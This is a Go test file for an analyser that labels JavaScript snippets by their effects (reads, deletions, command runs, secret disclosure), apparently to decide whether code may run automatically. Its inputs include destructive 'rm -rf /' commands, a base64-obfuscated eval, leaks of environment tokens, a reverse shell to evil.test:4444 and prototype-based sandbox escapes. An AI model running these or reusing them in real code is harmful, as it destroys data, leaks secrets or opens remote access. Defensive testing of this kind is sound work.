package javascript

import (
	"testing"

	"automode"
	"automode/internal/mask"
	"automode/internal/understand/code"
)

// facts writes what a reading says as tests state it.
func TestWhatIt(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{`console.log(require('./package.json').version)`, `Read ./package.json`},
		{`process.versions.node`, `nothing`},
		{`const d = new DataView(new ArrayBuffer(8)); d.setUint32(0, 5); console.log(d.getUint32(0), Buffer.alloc(4).readFloatBE(0))`, `nothing`},
		{`const d = new DataView(new ArrayBuffer(8)); d.setUint8(0, 5); eval(Buffer.from(d.buffer).toString())`, `Run[text javascript] …; ?`},
		{`class Stack { #n = 0; static made = 1; constructor(){ this.items=[]; this.#n = 2 } push(x){ this.items.push(x); return this } peek(){ return this.items.at(-1) } get size(){ return this.items.length } static of(...xs){ const s=new Stack(); xs.forEach(x=>s.push(x)); return s } } const s=Stack.of(1,2); console.log(s.peek(), s.size, s instanceof Stack)`, `nothing`},
		{`class A { constructor(n){ this.n=n } speak(){ return this.n } } class B extends A { speak(){ return super.speak()+'!' } static make(n){ return new B(n) } } console.log(B.make('x').speak())`, `nothing`},
		{`class E extends Error { constructor(m, c){ super(m); this.code=c } } try { throw new E('x', 3) } catch(e) { console.log(e.code, e instanceof E) }`, `nothing`},
		{`const {EventEmitter}=require('events'); class F extends EventEmitter { go(){ this.emit('x', 1) } } const f=new F(); f.on('x', v=>console.log(v)); f.go()`, `nothing`},
		{`class A { go(){ require('child_process').execSync('rm -rf /') } } new A()`, `Run[line] rm -rf /`},
		{`class A { get x(){ require('fs').rmSync('a') } } new A().x`, `Delete a`},
		{`class A { static { require('fs').rmSync('a') } }`, `Delete a`},
		{`class A { x = require('fs').rmSync('a'); [require('fs').rmSync('b')](){ } }`, `Delete a; Delete b`},
		{`class A { go(c){ require('child_process').execSync(c) } } new A().go('ls')`, `Run[line] …`},
		{`class A { constructor(f){ this.f=f } go(){ this.f('ls') } } new A(require('child_process').execSync).go()`, `?`},
		{`class A { constructor(){ this.f=require('child_process').execSync } go(){ [1].map(this.f) } } new A().go()`, `?`},
		{`class A { go(f){ f('x') } } new A().go(p => require('fs').rmSync(p))`, `Delete …; ?`},
		{`class A { go(f){ f('x') } } const o = {go: new A().go}; o.go(1)`, `?`},
		{`class A { go(){ this.f('ls') } } const o={f:require('child_process').execSync}; A.prototype.go.call(o)`, `?`},
		{`class F extends Function { } [1].map(new F('x'))`, `?`},
		{`class F extends eval { }`, `?`},
		{`const P = x => Function; class F extends P(1) { }`, `?`},
		{`class A { show(x){ console.log(x) } } new A().show(process.env.API_TOKEN)`, `Disclose variables that hold secrets; ?`},
		{`class A { constructor(){ this.t = 1 } } console.log(new A().constructor)`, `?`},
		{`function* g(){ let i=0; while(i<3) yield i++; yield* [1]; return 2 } console.log([...g()])`, `nothing`},
		{`function* g(){ yield require('fs').rmSync('a') } g().next()`, `Delete a`},
		{`function* g(){ yield require('child_process').execSync } for (const f of g()) f('ls')`, `?`},
		{`function* g(){ yield process.env.API_TOKEN } console.log([...g()])`, `Disclose variables that hold secrets`},
		{`function* g(){ while(true) yield 1 } [...g()]`, `?`},
		{`class A { *[Symbol.iterator](){ while(true) yield 1 } } [...new A()]`, `?`},
		{`console.log(this.x)`, `?`},
		{`class A { f(){ return function(){ return this } } }`, `?`},
		{`class A { f(){ return { g(){ return this } } } }`, `?`},
		{`#x; 1`, `?`},
		{`console.log(require('react/package.json').version)`, `Run react/package.json`},
		{`require('react/../../../x.json')`, `Run react/../../../x.json`},
		{`require('#x.json'); require('react')`, `Run #x.json; Run react`},
		{`const {performance}=require('perf_hooks'); const t=performance.now(); console.log((performance.now()-t).toFixed(2), Symbol('q').toString())`, `nothing`},
		{`console.log(Bun.version, await Bun.file('package.json').json()); await Bun.write('a', 'b')`, `Read package.json; Write a`},
		{`Bun.spawn(['ls'])`, `?`},
		{`console.log(Bun.env.API_TOKEN)`, `Disclose variables that hold secrets`},
		{`console.log(Deno.version.deno, Deno.readTextFileSync('a')); Deno.writeTextFileSync('b', 'c')`, `Read a; Write b`},
		{`Deno.removeSync('a', {recursive: true}); new Deno.Command('ls')`, `Delete a/**; ?`},
		{`const fs=require('fs'); const d=JSON.parse(fs.readFileSync('x.json','utf8')); console.log(Object.keys(d).length)`, `Read x.json`},
		{`fs.rmSync("/", {recursive:true})`, `Delete //**`},
		{`require('child_process').execSync('rm -rf ~')`, `Run[line] rm -rf ~`},
		{`const {execSync: x} = require("node:child_process"); x("rm -rf /")`, `Run[line] rm -rf /`},
		{`let s='';process.stdin.on('data',d=>s+=d).on('end',()=>{const j=JSON.parse(s);console.log(j.name)})`, `nothing`},
		{`process.stdin.on('data',d=>s+=d)`, `?`},
		{`JSON.parse(fs.readFileSync(0,'utf8')).map(x=>x.name).forEach(n=>console.log(n))`, `nothing`},
		{`console.log(process.env)`, `Disclose variables that hold secrets`},
		{`process.env`, `Disclose variables that hold secrets`},
		{`process.env.NODE_ENV`, `nothing`},
		{`console.log(process.env.GITHUB_TOKEN)`, `Disclose variables that hold secrets`},
		{`eval(Buffer.from('cm0gLXJmIC8=','base64').toString())`, `Run[text javascript] rm -rf /…; ?`},
		{`[].constructor.constructor('return process')()`, `?`},
		{`['rm -rf /'].map(require('child_process').execSync)`, `Run[line] rm -rf /`},
		{`[require('child_process')].map(m => m.execSync('rm -rf /'))`, `Run[line] rm -rf /`},
		{`(async()=>{const r=await fetch('http://localhost:3000/x');console.log(await r.json())})()`, `Fetch http://localhost:3000/x`},
		{`const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',['-i']);const c=new net.Socket();c.connect(4444,'evil.test',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})`,
			`Run[line] cat | { '/bin/sh' '-i' ; }; Send evil.test:4444; Expose{tunnel} evil.test:4444`},
		{`for (const f of fs.readdirSync('src')) console.log(fs.readFileSync('src/'+f,'utf8').length)`, `Read{listing} src; Read src/…; Read src/**`},
		{`import {readFileSync as r} from 'fs'; console.log(r('a'))`, `Read a`},
	} {
		r := Read(c.text, code.Setting{Secret: mask.SecretName})
		if got := r.String(); got != c.want {
			t.Errorf("%s\n got %s\nwant %s\n(%s)", c.text, got, c.want, r.Why)
		}
	}
}

// What is handed on where it is no longer followed, and what a text may hide,
// is never taken for understood.
func TestNotFollowed(t *testing.T) {
	for _, text := range []string{
		`[require('child_process')].concat([])[0].exec('x')`, `new Map([['a', fs]]).get('a').rmSync('x')`, `Object.values(require('child_process'))[0]('x')`,
		`Array.from([1], () => require('child_process'))[0].exec('x')`, `const cp = {...require('child_process')}; cp.exec('x')`,
		`new Promise(r => r(require('child_process'))).then(c => c.exec('x'))`, `try { throw require('child_process') } catch (c) { c.exec('x') }`,
		`let r; setTimeout(() => r.exec('x'), 0); r = require('child_process')`, `const o = {}; setTimeout(() => o.r.exec('x'), 0); o.r = require('child_process')`,
		`const e = new (require('events'))(); e.on('x', c => c.exec('x')); e.emit('x', require('child_process'))`,
		`const k = JSON.parse('"constructor"'); [][k][k]('x')()`, `['x'].map(''[process.argv[1]][process.argv[1]])`, `process.mainModule`, `[].constructor`, `({}).__proto__`,
		`JSON.parse = x => x`, `Array.prototype.map = null`, `console.log = fs.rmSync`, `globalThis.x = fs`, `var JSON = 1; delete globalThis.JSON`,
		`with (process) exit()`, `function* g() { yield require('child_process') }; for (const c of g()) c.exec('x')`, `class A { constructor(){ this.c = require('child_process') } go(){ this.c.exec('x') } }`, `class A { constructor(){ return require('child_process') } }; new A().exec('x')`, `class A { get(){ return fs } }; new A().get().rmSync('x')`, `class A { static m = fs }; A.m.rmSync('x')`, `class A { m(f){ [fs].map(f) } }; new A().m(c => c.rmSync('x'))`, `({get a() { return require('fs') }}).a.rmSync('x')`, `({get [process.argv[1]]() { return 1 }}).a`, `this.process`, `class A extends x {}`, `new Proxy(fs, {})`, `new Proxy(eval, {})('1')`, `Reflect.get(() => 1, 'constructor')('x')()`, `['x'].map(Reflect.get(() => 1, process.argv[1]))`, `Reflect.ownKeys(fs)`, `x <!-- y`, "1\n--> 2", `v\u0061r`,
		`eval('1')`, `new Function('1')`, `setTimeout('1')`, `require('vm').runInThisContext('1')`, `require(process.argv[1])`, `import(process.argv[1])`,
		`fs.readFileSync('x', {flag: 'w'})`, `fs.readFileSync('x', JSON.parse('{}'))`, `fs[process.argv[1]]('x')`, `fs.rmSync(...JSON.parse('[]'), fs)`,
		`require('child_process').execSync('x', {shell: '/tmp/x'})`, `require('child_process').execSync('x', JSON.parse('{}'))`, `process.env.PATH = '/tmp'; require('child_process').execSync('ls')`,
		`const o = {}; o[process.argv[1]][process.argv[2]] = 'x'; require('child_process').execSync('ls')`,
	} {
		if r := Read(text, code.Setting{Secret: mask.SecretName}); r.Whole {
			t.Errorf("%s\nis taken for understood: %s", text, r)
		}
	}
}

// A value that may have become another by the time is not taken for what it
// was.
func TestValuesThatChange(t *testing.T) {
	for _, text := range []string{
		`let p = 'a'; setTimeout(() => { p = '/' }, 0); p = 'b'; fs.rmSync(p)`,
		`let p = 'a'; for (let i = 0; i < 2; i++) { fs.rmSync(p); p = '/' }`,
		`const o = {p: 'a'}; setTimeout(() => { o.p = '/' }, 0); o.p = 'b'; fs.rmSync(o.p)`,
		`const o = {p: 'a'}; Object.assign(o, {p: '/'}); fs.rmSync(o.p)`,
		`const o = {p: 'a'}; [o].concat([])[0].p = '/'; fs.rmSync(o.p)`,
		`const a = ['a']; setTimeout(() => fs.rmSync(a[0]), 1); a.unshift('/')`,
		`['a', 'b'].reduce((p, x) => { fs.rmSync(p); return '/' }, 'c')`,
		`var p = 'a'; function f() { p = '/' } f(); fs.rmSync(p)`,
		`function f(a, b = 'a') { fs.rmSync(b) } f(...JSON.parse('["x", "/"]'))`,
		`function f(p, n) { fs.rmSync(p); if (n) f(process.argv[1], 0) } f('a', 1)`,
		`fs.rmSync('/tmp/x' + /\/..\/..\/etc/.source)`,
		`fs.readdirSync('.').concat('/etc').forEach(f => fs.rmSync(f))`,
		`fs.rmSync(fs.readdirSync('.').join('/../'))`,
		`process.chdir('/'); fs.rmSync(process.cwd() + '/x')`,
	} {
		r := Read(text, code.Setting{Cwd: "/w", Secret: mask.SecretName})
		guessed := false
		for _, f := range r.Facts {
			guessed = guessed || f.Kind == automode.Delete && f.Word.Known == automode.Guess
		}
		if r.Whole && !guessed {
			t.Errorf("%s\nis taken to remove only what it names: %s", text, r)
		}
	}
}
